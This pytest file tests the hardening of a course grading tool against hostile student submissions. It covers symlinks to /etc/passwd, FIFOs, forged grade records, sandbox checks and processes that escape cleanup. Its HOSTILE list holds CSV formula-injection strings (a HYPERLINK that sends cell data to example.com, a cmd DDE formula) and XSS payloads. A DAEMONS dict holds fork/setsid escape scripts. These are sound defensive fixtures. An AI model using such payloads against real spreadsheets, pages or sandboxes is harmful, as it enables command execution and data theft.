"""What the grader does with what it was not meant to get (issue classes 1, 2, 3, 5 and 6 for grading):
symbolic links and odd files in a team's folder, identical files across teams, no sandbox, records it did not
write, processes that leave their step, cells that would run in a spreadsheet, signals and an address-space limit,
and damaged or odd files in the grades folder. The slow tests start an embedded Ray."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from test_grade import (  # noqa: F401 (grader_key_file: the autouse fixture)
    FAKE_PROJECT,
    KEY,
    NO_SANDBOX,
    TEAMS,
    grader_key_file,
    ok_record,
)

from pyconv.core.errors import PyconvError
from pyconv.grading import sandbox, schema
from pyconv.grading.job import JobResult, JobSpec, run_job
from pyconv.grading.sandbox import Limits, run_step
from pyconv.tools import grade as g
from pyconv.tools import leaderboard as lb

ROOT = Path(__file__).resolve().parent.parent
CORRECT = (TEAMS / "correct-seven-loops" / "new-forward.h").read_text()
OTHER = (TEAMS / "correct-reordered" / "new-forward.h").read_text()
HAS_BWRAP = sandbox.bwrap_problem() is None


def no_bwrap_path(tmp_path: Path) -> str:
    """A PATH with this Python and the usual tools but no bwrap: a machine where bubblewrap is not installed."""
    bin_dir = tmp_path / "bin-without-bwrap"
    bin_dir.mkdir(exist_ok=True)
    for folder in (Path(sys.executable).parent, Path("/usr/bin"), Path("/bin")):
        for f in folder.iterdir():
            if f.name != "bwrap" and not (bin_dir / f.name).exists():
                (bin_dir / f.name).symlink_to(f)
    return str(bin_dir)


def csv_rows(grades: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO((grades / "leaderboard-m2.csv").read_text())))


def team(subs: Path, name: str, files: dict[str, str] | None = None, members: str | None = None) -> Path:
    d = subs / name
    d.mkdir(parents=True)
    for f, text in (files or {"new-forward.h": CORRECT}).items():
        (d / f).write_text(text)
    if members is not None:
        (d / "members.txt").write_text(members)
    return d


# --- class 1: the grader reads only regular files inside the team's folder


@pytest.fixture
def odd_submissions(tmp_path):
    subs, outside = tmp_path / "subs", tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("SECRET-LINE-408\n")
    (outside / "new-forward.h").write_text(OTHER)
    team(subs, "alpha", members="Ada Lovelace\n")
    team(subs, "copy-of-alpha")  # the same bytes as alpha's
    team(subs, "different", {"new-forward.h": OTHER})
    d = team(subs, "link-members", {"new-forward.h": OTHER + "// own\n"})
    (d / "members.txt").symlink_to(outside / "secret.txt")
    (subs / "link-outside").mkdir()
    (subs / "link-outside" / "new-forward.h").symlink_to(outside / "new-forward.h")
    (subs / "link-other-team-file").mkdir()
    (subs / "link-other-team-file" / "new-forward.h").symlink_to(Path("..") / "alpha" / "new-forward.h")
    (subs / "link-etc").mkdir()
    (subs / "link-etc" / "new-forward.cuh").symlink_to("/etc/passwd")
    (subs / "link-team").symlink_to("alpha")
    (subs / "link-team-outside").symlink_to(outside)
    (subs / "fifo").mkdir()
    os.mkfifo(subs / "fifo" / "new-forward.h")
    (subs / "folder-as-file").mkdir()
    (subs / "folder-as-file" / "members.txt").mkdir()
    (subs / "notes.txt").write_text("not a team\n")
    (subs / "link-to-a-file").symlink_to(subs / "notes.txt")  # a link to a file beside the teams: not a team
    return subs


def test_symbolic_links_and_odd_files_are_refused_and_never_read(odd_submissions):
    start = time.monotonic()
    teams = {t.name: t for t in g.discover(odd_submissions)}
    assert time.monotonic() - start < 5  # the FIFO was never opened for a blocking read
    assert set(teams) == {"alpha", "copy-of-alpha", "different", "link-members", "link-outside",
                          "link-other-team-file", "link-etc", "link-team", "link-team-outside", "fifo",
                          "folder-as-file"}
    refused = {n: t.refused for n, t in teams.items() if t.refused}
    assert set(refused) == {"link-members", "link-outside", "link-other-team-file", "link-etc", "link-team",
                            "link-team-outside", "fifo", "folder-as-file"}
    assert "members.txt is a symbolic link" in refused["link-members"]
    assert "new-forward.h is a symbolic link" in refused["link-outside"]
    assert "new-forward.cuh is a symbolic link" in refused["link-etc"]
    assert "the team's folder is a symbolic link (to alpha)" in refused["link-team"]
    assert "a FIFO" in refused["fifo"] and "a folder" in refused["folder-as-file"]
    for t in teams.values():
        if t.refused:
            assert t.files == {} and t.members == []
    assert teams["alpha"].members == ["Ada Lovelace"]
    assert "SECRET-LINE-408" not in repr({n: (t.files, t.members, t.refused) for n, t in teams.items()})


def test_identical_files_across_teams_are_flagged_both_ways_and_nothing_else(odd_submissions):
    teams = {t.name: t for t in g.discover(odd_submissions)}
    assert teams["alpha"].same_as == {"new-forward.h": ["copy-of-alpha"]}
    assert teams["copy-of-alpha"].same_as == {"new-forward.h": ["alpha"]}
    assert teams["different"].same_as == {} and teams["link-members"].same_as == {}


def test_refused_and_copied_teams_reach_the_records_and_the_leaderboard(odd_submissions, tmp_path, monkeypatch):
    """The whole of `grade` without Ray (its jobs stand in): refused teams get a signed `refused` record and run
    nothing; a copied file is named in both teams' records and in the leaderboard's notes."""
    ran = []

    def fake_run_jobs(specs, cluster, say, cpus_per_job):
        for spec in specs:
            ran.append(spec.team)
            rec = ok_record(spec.team)
            rec["sandbox"] = spec.sandbox
            yield spec, JobResult(record=rec, log="", node={}), None, {"node": "n"}

    monkeypatch.setattr(g, "run_jobs", fake_run_jobs)
    monkeypatch.setattr(g.paths, "LOGS", tmp_path / "logs")
    grades = tmp_path / "grades"
    said = []
    assert g.grade(odd_submissions, grades=grades, say=said.append, no_sandbox=bool(NO_SANDBOX)) == 0
    assert sorted(ran) == ["alpha", "copy-of-alpha", "different"]
    records = {r["team"]: r for r in schema.load_records(grades)}
    assert records["link-team"]["verdict"] == "refused" and records["link-team"]["stage"] == "files"
    assert records["link-team"]["sum"] is None and records["link-team"]["members"] == []
    assert records["copy-of-alpha"]["same_as"] == {"new-forward.h": ["alpha"]}
    assert any("copy-of-alpha" in s and "identical to alpha's" in s for s in said), said
    lb.write_leaderboard(grades, say=lambda _: None)
    rows = {r["team"]: r for r in csv_rows(grades)}
    assert rows["alpha"]["notes"] == "new-forward.h identical to copy-of-alpha's" + ("; sandbox: none" if NO_SANDBOX
                                                                                     else "")
    assert rows["link-etc"]["verdict"] == "refused" and rows["link-etc"]["rank"] == "-"
    assert "SECRET-LINE-408" not in (grades / "leaderboard-m2.csv").read_text()


# --- class 2: no sandbox, no grading (unless the teacher says so); records only the grader wrote


def test_grading_without_bwrap_is_refused_in_one_line_naming_the_fix(tmp_path):
    subs = tmp_path / "subs"
    team(subs, "alpha")
    r = subprocess.run([sys.executable, "-m", "invoke", "grade", "--submissions", str(subs), "--project",
                        str(FAKE_PROJECT), "--grades", str(tmp_path / "grades")], cwd=ROOT, capture_output=True,
                       text=True, timeout=120, env={**os.environ, "PATH": no_bwrap_path(tmp_path)})
    assert r.returncode == 1 and r.stderr.count("\n") == 1, r.stderr
    assert "bubblewrap (bwrap), its sandbox, is not installed" in r.stderr
    assert "apt-get install bubblewrap" in r.stderr and "--no-sandbox" in r.stderr
    assert not (tmp_path / "grades").exists()


def test_a_job_rechecks_the_sandbox_where_it_runs(tmp_path, monkeypatch):
    """No isolation is cached: a job that requires bwrap refuses to run once bwrap is gone, however many jobs
    found it before in the same process (a long-lived Ray worker)."""
    spec = JobSpec(team="alpha", members=[], files={"new-forward.h": CORRECT}, milestone="2", model="ece408",
                   batches=[4], runs=1, sanitize=False, build_limits=Limits(), run_limits=Limits(), commit="t",
                   date="2026-01-01T00:00:00+00:00", root=str(ROOT), project=["python3", str(FAKE_PROJECT)],
                   scratch_base=str(tmp_path / "jobs"))
    if HAS_BWRAP:
        assert sandbox.detect_isolation() == "bwrap"
    monkeypatch.setenv("PATH", no_bwrap_path(tmp_path))
    assert sandbox.detect_isolation() != "bwrap"
    with pytest.raises(sandbox.SandboxUnavailable, match="not installed; the job was not run"):
        run_job(spec)
    assert not (tmp_path / "jobs").exists() or not any((tmp_path / "jobs").iterdir())


@pytest.mark.slow
def test_no_sandbox_runs_and_every_record_says_so(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", no_bwrap_path(tmp_path))
    spec = JobSpec(team="alpha", members=[], files={"new-forward.h": CORRECT}, milestone="2", model="ece408",
                   batches=[4], runs=1, sanitize=False, build_limits=Limits(wall_s=120), run_limits=Limits(wall_s=60),
                   commit="t", date="2026-01-01T00:00:00+00:00", root=str(ROOT),
                   project=["python3", str(FAKE_PROJECT)], scratch_base=str(tmp_path / "jobs"), sandbox="none")
    result = run_job(spec)
    assert result.record["verdict"] == "ok", result.record
    assert result.record["sandbox"].startswith("none: --no-sandbox")
    assert "isolation none" in result.log


def test_records_are_trusted_only_if_the_grader_signed_them(tmp_path):
    grades = tmp_path / "grades"
    schema.write_record(grades, ok_record("good"), KEY)
    forged = schema.sign(ok_record("forged-other-key"), b"x" * 32)
    (grades / "forged-other-key-m2.json").write_text(json.dumps(forged))
    (grades / "unsigned-m2.json").write_text(json.dumps(ok_record("unsigned")))
    changed = json.loads((grades / "good-m2.json").read_text())
    changed["team"], changed["op_times"], changed["sum"] = "changed", [1e-6, 1e-6], 2e-6
    (grades / "changed-m2.json").write_text(json.dumps(changed))
    records, refused = schema.read_records(grades)
    assert [r["team"] for r in records] == ["good"]
    why = {p.name: w for p, w in refused}
    assert why["unsigned-m2.json"].startswith("unsigned")
    assert "signature does not match" in why["forged-other-key-m2.json"]
    assert "signature does not match" in why["changed-m2.json"]
    _, refused = schema.read_records(grades, key=b"y" * 32)  # another grader's key trusts none of them
    assert len(refused) == 4


def test_without_the_key_nothing_is_trusted_and_the_reader_says_why(tmp_path, monkeypatch):
    grades = tmp_path / "grades"
    schema.write_record(grades, ok_record("good"), KEY)
    monkeypatch.setenv("PYCONV_GRADE_KEY_FILE", str(tmp_path / "no-such-key"))
    records, refused = schema.read_records(grades)
    assert records == [] and "this grader has no key" in refused[0][1]


def test_the_key_is_made_private_and_a_readable_one_is_refused(tmp_path, monkeypatch):
    path = tmp_path / "data" / "pyconv" / "grade-key"
    monkeypatch.setenv("PYCONV_GRADE_KEY_FILE", str(path))
    assert schema.grader_key() is None
    key = schema.grader_key(create=True)
    assert len(key) == 32 and path.stat().st_mode & 0o777 == 0o600 and schema.grader_key() == key
    path.chmod(0o644)
    with pytest.raises(PyconvError, match="only its owner can read"):
        schema.grader_key()


@pytest.mark.skipif(not HAS_BWRAP, reason="bubblewrap does not work here")
def test_a_step_under_bwrap_cannot_read_the_key(tmp_path, grader_key_file):  # noqa: F811
    r = run_step("read-key", ["cat", str(grader_key_file)], scratch=tmp_path, env=dict(os.environ), limits=Limits(),
                 isolation="bwrap")
    assert KEY.hex() not in r.output and ("Permission denied" in r.output or r.output == ""), r.output
    assert "PYCONV_GRADE_KEY_FILE" not in sandbox.job_environment(dict(os.environ))


# Each parent waits a second, so that its child has left the session before the step ends (else the session's
# kill takes it, and the test would prove nothing).
DAEMONS = {
    # leaves the session and the process group, keeps the environment: found by the step's marker
    "setsid": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(300)\ntime.sleep(1)\n",
    # double fork, then setsid in the grandchild: its parent is gone before the step ends
    "double-fork": "import os, time\nif os.fork() == 0:\n    if os.fork() == 0:\n        os.setsid()\n"
                   "        time.sleep(300)\n    os._exit(0)\ntime.sleep(1)\n",
    # also clears its environment: only bwrap's PID namespace ends it
    "setsid-clean-env": "import os, sys, time\nif os.fork() == 0:\n    os.setsid()\n"
                        "    os.execve(sys.executable, [sys.executable, '-c', 'import time; time.sleep(300)', "
                        "sys.argv[1]], {})\ntime.sleep(1)\n",
}


def _alive(marker: str) -> list[str]:
    return subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout.split()


@pytest.mark.parametrize("isolation, daemon", [("none", "setsid"), ("none", "double-fork"), ("bwrap", "setsid"),
                                               ("bwrap", "setsid-clean-env")])
def test_a_daemon_does_not_outlive_its_step(tmp_path, isolation, daemon):
    if isolation == "bwrap" and not HAS_BWRAP:
        pytest.skip("bubblewrap does not work here")
    marker = f"daemon-marker-{os.getpid()}-{daemon}-{isolation}"
    r = run_step("d", [sys.executable, "-c", DAEMONS[daemon], marker], scratch=tmp_path, env=dict(os.environ),
                 limits=Limits(wall_s=30), isolation=isolation)
    time.sleep(0.5)
    left = _alive(marker)
    for pid in left:
        os.kill(int(pid), signal.SIGKILL)
    assert r.returncode == 0 and left == [], (r, left)
    assert r.cleanup.startswith("every process found in its session, its process group or carrying its marker")


def test_a_daemon_that_hides_from_every_check_is_not_claimed_killed(tmp_path):
    """Without bwrap, a process that leaves the session and clears its environment cannot be found: the step's
    record must not claim it was killed (the claim names what was checked), and the run's sweep is no help."""
    marker = f"hidden-daemon-{os.getpid()}"
    try:
        r = run_step("d", [sys.executable, "-c", DAEMONS["setsid-clean-env"], marker], scratch=tmp_path,
                     env=dict(os.environ), limits=Limits(wall_s=30), isolation="none")
        assert "every process of the job was killed" not in r.cleanup
        assert "carrying its marker" in r.cleanup
    finally:
        for pid in _alive(marker):
            os.kill(int(pid), signal.SIGKILL)


# --- class 3: cells a team controls cannot run in a spreadsheet or break the Markdown

HOSTILE = ['=HYPERLINK("http://example.com/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
           "=cmd|' /C calc'!A0", "a|b `code` <img src=x onerror=alert(1)> [link](javascript:x) *b* _i_"]


def test_the_csv_neutralises_every_team_controlled_cell():
    ok = ok_record("evil")
    ok["members"] = [HOSTILE[0]]
    ok["device"] = "=1+1"
    rows = [ok] + [schema.finish(ok_record(f"t{i}"), "crashed", "run", [h]) for i, h in enumerate(HOSTILE)]
    for i, r in enumerate(rows[1:]):
        r["members"] = [HOSTILE[i]]
    table, _, _ = lb.standings(rows)
    parsed = list(csv.DictReader(io.StringIO(lb.to_csv(table))))
    for row in parsed:
        for col in lb.TEAM_TEXT:
            assert not row[col].startswith(("=", "+", "-", "@", "\t", "\r")), (col, row[col])
    by_team = {row["team"]: row for row in parsed}
    assert by_team["evil"]["members"] == "'" + HOSTILE[0] and by_team["evil"]["device"] == "'=1+1"
    assert by_team["t6"]["evidence"] == "'=cmd|' /C calc'!A0"
    assert by_team["t7"]["evidence"] == HOSTILE[7]  # nothing to neutralise: left as it was
    assert by_team["evil"]["sd from median"].startswith(("+", "-"))  # the grader's own numbers stay numbers


def test_markdown_cells_are_escaped_and_stay_one_cell():
    rows = [schema.finish(ok_record(f"t{i}"), "crashed", "run", [h]) for i, h in enumerate(HOSTILE)]
    for i, r in enumerate(rows):
        r["members"] = [HOSTILE[-1 - i]]
    table, med, sd = lb.standings(rows)
    md = lb.markdown("2", table, med, sd)
    lines = [ln for ln in md.splitlines() if ln.startswith("| ")]
    ncols = lines[0].count(" | ") + 1
    for ln in lines[1:]:
        unescaped = ln.replace("\\|", "")
        assert unescaped.count(" | ") + 1 == ncols, ln
    assert "<img" not in md and "&lt;img" in md and "\\`code\\`" in md and "\\[link\\]" in md
    assert "\t" not in md and "\r" not in md


# --- class 6: odd and damaged files in the grades folder


DAMAGE = {
    "sum-string-inf": lambda r: r.update(sum="inf"),
    "sum-infinity": lambda r: r.update(sum=float("inf")),
    "op-times-nested-list": lambda r: r.update(op_times=[[0.5], 0.25]),
    "sum-list": lambda r: r.update(sum=[0.75]),
    "missing-keys": lambda r: [r.pop("verdict"), r.pop("sum")],
    "runs-string": lambda r: r.update(runs="2"),
    "correctness-list": lambda r: r.update(correctness=[0.9]),
    "members-number": lambda r: r.update(members=5),
    "evidence-dict": lambda r: r.update(evidence={"a": 1}),
    "batches-bools": lambda r: r.update(batches=[True, False]),
    "same-as-string": lambda r: r.update(same_as="alpha"),
}


def _damaged(grades: Path, name: str, change) -> None:
    rec = ok_record(name)
    change(rec)
    text = json.dumps(rec) if name != "sum-infinity" else json.dumps(rec, allow_nan=True)
    (grades / f"{name}-m2.json").write_text(text)


@pytest.mark.parametrize("name", sorted(DAMAGE))
def test_a_damaged_record_is_refused_by_name_and_the_rest_ranked(tmp_path, name):
    grades = tmp_path / "grades"
    schema.write_record(grades, ok_record("good"), KEY)
    _damaged(grades, name, DAMAGE[name])
    said = []
    lb.write_leaderboard(grades, say=said.append)
    refusals = [s for s in said if s.startswith("refused ")]
    assert len(refusals) == 1 and f"{name}-m2.json: not a grade record" in refusals[0], said
    assert [r["team"] for r in csv_rows(grades)] == ["good"]


def test_odd_files_in_the_grades_folder_through_the_command_line(tmp_path):
    """One `invoke leaderboard` over a folder holding a FIFO, a folder, a symbolic link, bytes that are not
    UTF-8, a JSON list, every damaged record above and one good record: it ends at once, names each odd file in
    one line, and ranks the good team (the exit status says the leaderboard was written)."""
    grades = tmp_path / "grades"
    schema.write_record(grades, ok_record("good"), KEY)
    os.mkfifo(grades / "fifo-m2.json")
    (grades / "folder-m2.json").mkdir()
    (grades / "link-m2.json").symlink_to(grades / "good-m2.json")
    (grades / "binary-m2.json").write_bytes(b"\xff\xfe{")
    (grades / "list-m2.json").write_text("[1, 2]")
    for name, change in DAMAGE.items():
        _damaged(grades, name, change)
    r = subprocess.run([sys.executable, "-m", "invoke", "leaderboard", "--grades", str(grades)], cwd=ROOT,
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    refused = [ln for ln in r.stdout.splitlines() if ln.startswith("refused ")]
    assert len(refused) == 5 + len(DAMAGE), refused
    lines = {ln.split(": ", 1)[0].rsplit("/", 1)[-1]: ln for ln in refused}
    assert "not a regular file (skipped)" in lines["fifo-m2.json"]
    assert "not a regular file (skipped)" in lines["folder-m2.json"]
    assert "a symbolic link (skipped)" in lines["link-m2.json"]
    assert "not JSON" in lines["binary-m2.json"] and "not a JSON object" in lines["list-m2.json"]
    assert "internal error" not in r.stdout + r.stderr and "Traceback" not in r.stderr
    assert [row["team"] for row in csv_rows(grades)] == ["good"]
    assert "Not ranked: 16 file(s)" in (grades / "leaderboard-m2.md").read_text()


def test_a_grades_folder_of_only_refused_files_is_one_line(tmp_path):
    grades = tmp_path / "grades"
    grades.mkdir()
    os.mkfifo(grades / "fifo-m2.json")
    r = subprocess.run([sys.executable, "-m", "invoke", "leaderboard", "--grades", str(grades)], cwd=ROOT,
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 1 and r.stderr.count("\n") == 1 and "1 refused, named above" in r.stderr, r.stderr


# --- class 5: grading that stops cleanly, or says at once that it cannot start


def test_an_address_space_limit_is_refused_before_ray_starts(tmp_path):
    pytest.importorskip("ray")
    subs = tmp_path / "subs"
    team(subs, "alpha")
    start = time.monotonic()
    r = subprocess.run(["bash", "-c", 'ulimit -v 8000000 && exec "$@"', "-", sys.executable, "-m", "invoke", "grade",
                        "--submissions", str(subs), "--project", str(FAKE_PROJECT), "--grades",
                        str(tmp_path / "grades"), *NO_SANDBOX], cwd=ROOT, capture_output=True, text=True,
                       timeout=300)
    assert r.returncode == 1 and r.stderr.count("\n") == 1, r.stderr
    assert "Ray cannot run under an address-space limit (ulimit -v 8000000 KiB" in r.stderr
    assert "ulimit -v unlimited" in r.stderr
    assert time.monotonic() - start < 60


def _session_processes(sid: int) -> list[str]:
    out = []
    for e in os.scandir("/proc"):
        if e.name.isdigit():
            try:
                if os.getsid(int(e.name)) == sid:
                    out.append(Path(f"/proc/{e.name}/comm").read_text().strip())
            except (OSError, ProcessLookupError):
                continue
    return out


@pytest.mark.slow
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_stops_grading_in_one_line_leaving_nothing(tmp_path, signum):
    """SIGTERM to `invoke grade` (a scheduler's time limit) or Ctrl-C (SIGINT to its process group) while jobs
    run: one line, exit 128+N, and no Ray process, job step or scratch folder left behind."""
    pytest.importorskip("ray")
    scratch = Path(tempfile.mkdtemp(prefix="pg-"))  # short: Ray's socket paths must stay under 108 bytes
    subs = tmp_path / "subs"
    team(subs, "hangs", {"new-forward.h": (TEAMS / "hangs" / "new-forward.h").read_text()})
    team(subs, "alpha")
    log = (tmp_path / "out").open("w+")
    proc = subprocess.Popen([sys.executable, "-m", "invoke", "grade", "--submissions", str(subs), "--batches", "10",
                             "--runs", "1", "--timeout-run", "300", "--project", str(FAKE_PROJECT), "--grades",
                             str(tmp_path / "grades"), *NO_SANDBOX], cwd=ROOT, stdout=log, stderr=subprocess.STDOUT,
                            env={**os.environ, "TMPDIR": str(scratch), "PYCONV_LOGS": str(tmp_path / "logs")},
                            start_new_session=True)
    try:
        deadline = time.monotonic() + 240
        while not list(scratch.glob("pyconv-grade-*/hangs-*")):
            assert proc.poll() is None and time.monotonic() < deadline, (tmp_path / "out").read_text()
            time.sleep(0.5)
        time.sleep(3)  # the hanging team's steps are running
        if signum == signal.SIGINT:
            os.killpg(proc.pid, signum)
        else:
            os.kill(proc.pid, signum)
        code = proc.wait(timeout=120)
        out = (tmp_path / "out").read_text()
        lines = [ln for ln in out.splitlines() if ln.strip()]
        assert code == 128 + signum, out
        assert lines[-1] == f"error: stopped by {signal.Signals(signum).name}; no half-written file was kept", out
        assert "Traceback" not in out and "SIGTERM received" not in out and "PC: @" not in out, out
        deadline = time.monotonic() + 20
        while (left := _session_processes(proc.pid)) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert left == []
        assert list(scratch.glob("pyconv-grade*")) == [] and list(scratch.glob("pyconv-grading-*")) == []
    finally:
        log.close()
        shutil.rmtree(scratch, ignore_errors=True)
        for pid in (int(e.name) for e in os.scandir("/proc") if e.name.isdigit()):
            try:
                if os.getsid(pid) == proc.pid:
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


# --- class 2, the set-up: one place installs every Debian package the project uses


def test_setup_installs_bubblewrap_with_the_data_set_in_one_apt_get(monkeypatch):
    from pyconv.core import system_packages as sp

    present = set()
    monkeypatch.setattr(sp, "PACKAGES", {p: (lambda p=p: p in present) for p in sp.PACKAGES})
    monkeypatch.setattr(sp, "can_install", lambda: True)
    calls = []

    def fake_run(argv, **kw):
        calls.append(argv)
        if argv[:2] == ["apt-get", "install"]:
            present.update(a for a in argv[2:] if not a.startswith("-"))
        return subprocess.CompletedProcess(argv, 0, "", "")

    monkeypatch.setattr(sp.subprocess, "run", fake_run)
    assert sp.ensure(say=lambda _: None) == []
    assert calls == [["apt-get", "install", "-y", "-q", "--no-install-recommends", "dataset-fashion-mnist",
                      "bubblewrap"]]


def test_setup_without_root_says_in_one_line_what_to_install(monkeypatch):
    from pyconv.core import system_packages as sp

    monkeypatch.setattr(sp, "PACKAGES", {"bubblewrap": lambda: False, "dataset-fashion-mnist": lambda: True})
    monkeypatch.setattr(sp, "can_install", lambda: False)
    said = []
    assert sp.ensure(say=said.append) == ["bubblewrap"]
    assert len(said) == 1 and "apt-get install bubblewrap" in said[0]
